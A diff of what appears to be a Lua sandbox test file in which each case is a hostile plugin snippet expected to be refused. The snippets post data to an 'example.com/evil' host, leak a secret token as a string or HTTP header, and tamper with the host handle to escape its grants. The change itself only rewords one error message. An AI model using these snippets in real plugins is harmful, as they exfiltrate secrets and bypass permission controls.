@@ -46,7 +46,7 @@ return function() return http.post('https://example.com/evil', { body = 'x' }) e
 return function() return tostring(secret 'TOKEN') end
 --- a secret as a header | refused plugin "chat" needs
 return function() return http.get('https://example.com', { headers = { A = secret 'TOKEN' } }) end
---- the grants on the handle | refused host is not to be changed
+--- the grants on the handle | refused host cannot be changed
 return function(host) host.plugin = nil host:run 'evil' end
 --- the grants past the handle's metatable | refused table expected
 return function(host) rawset(host, 'plugin', nil) host:run 'evil' end
